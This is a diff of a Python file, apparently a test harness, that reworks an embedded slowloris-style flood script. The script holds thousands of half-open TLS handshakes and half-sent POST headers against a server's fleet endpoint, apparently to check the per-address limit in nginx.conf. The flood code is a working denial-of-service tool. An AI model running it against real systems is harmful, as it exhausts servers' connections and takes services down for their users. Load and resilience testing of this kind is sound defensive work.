@@ -29,26 +29,34 @@ with socket.create_server((host, int(port))) as listener:
     while True: listener.accept()[0].close()
 """
 CROWD, GATE = 3000, 64  # connections that are tried, and that nginx.conf leaves to an address
-# Every connection gets through its TLS handshake and half of a request's header, if it can, and is then held.
+# Some get through their TLS handshake and half of a request's header, most send half of a handshake, which costs
+# nothing; all are held, and made again every few seconds.
 FLOOD = """
-import collections, resource, socket, ssl, sys, time
-from concurrent.futures import ThreadPoolExecutor
-resource.setrlimit(resource.RLIMIT_NOFILE, (2 * int(sys.argv[2]), 2 * int(sys.argv[2])))
+import resource, select, socket, ssl, sys, time
+number = int(sys.argv[2])
+resource.setrlimit(resource.RLIMIT_NOFILE, (2 * number, 2 * number))
 host, port = sys.argv[1].rsplit(":", 1)
 context = ssl._create_unverified_context()
-def half_a_header(_):
+def half(position):
     try:
-        line = context.wrap_socket(socket.create_connection((host, int(port)), 20))
+        line = socket.create_connection((host, int(port)), 5)
+        if position % 100:
+            line.send(b"\\x16\\x03\\x01\\x02")
+            return line
+        line = context.wrap_socket(line)
         line.send(b"POST /v1/fleet/pull-messages HTTP/1.1\\r\\nHost: fleet\\r\\nFlwr-")
         return line
     except OSError:
         return None
-held = collections.deque(maxlen=int(sys.argv[2]))
-with ThreadPoolExecutor(8) as pool:
-    while True:
-        for line in pool.map(half_a_header, range(int(sys.argv[2]))): held.append(line)
-        print("held", sum(line is not None for line in held), flush=True)
-        time.sleep(5)
+held = []
+while True:
+    held.clear()
+    held += [line for line in map(half, range(number)) if line]
+    time.sleep(1)
+    closed = select.poll()
+    for line in held: closed.register(line, select.POLLIN)
+    print("held", len(held) - len(closed.poll(0)), flush=True)
+    time.sleep(4)
 """
 IMPORTED = 2.5  # CPU seconds of an app's process: what it needs to start is about to end
 
